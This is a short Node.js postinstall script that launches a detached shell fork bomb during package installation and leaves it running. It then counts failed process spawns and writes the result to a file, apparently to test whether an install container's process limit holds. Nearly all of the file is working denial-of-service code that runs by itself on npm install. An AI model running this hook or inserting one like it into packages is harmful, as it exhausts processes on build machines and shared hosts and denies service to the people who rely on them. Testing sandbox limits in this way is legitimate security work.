// A postinstall that leaves a fork bomb running behind it: the install container's process
// limit stays full while npm and the install finish. It records that the bomb bit.
const { spawn, spawnSync } = require('node:child_process');
const fs = require('node:fs');

spawn('sh', ['-c', 'f() { f | f & }; f'], { stdio: 'ignore', detached: true }).unref();
const until = Date.now() + 5000;
let spins = 0;
while (Date.now() < until) spins++;
let failed = 0;
for (let i = 0; i < 20; i++) if (spawnSync('true').error) failed++;
const evidence = `fork bomb: ${failed} of 20 spawns failed after 5 s (${spins} spins)`;
fs.writeFileSync('bomb-evidence.txt', evidence);
console.log(evidence);
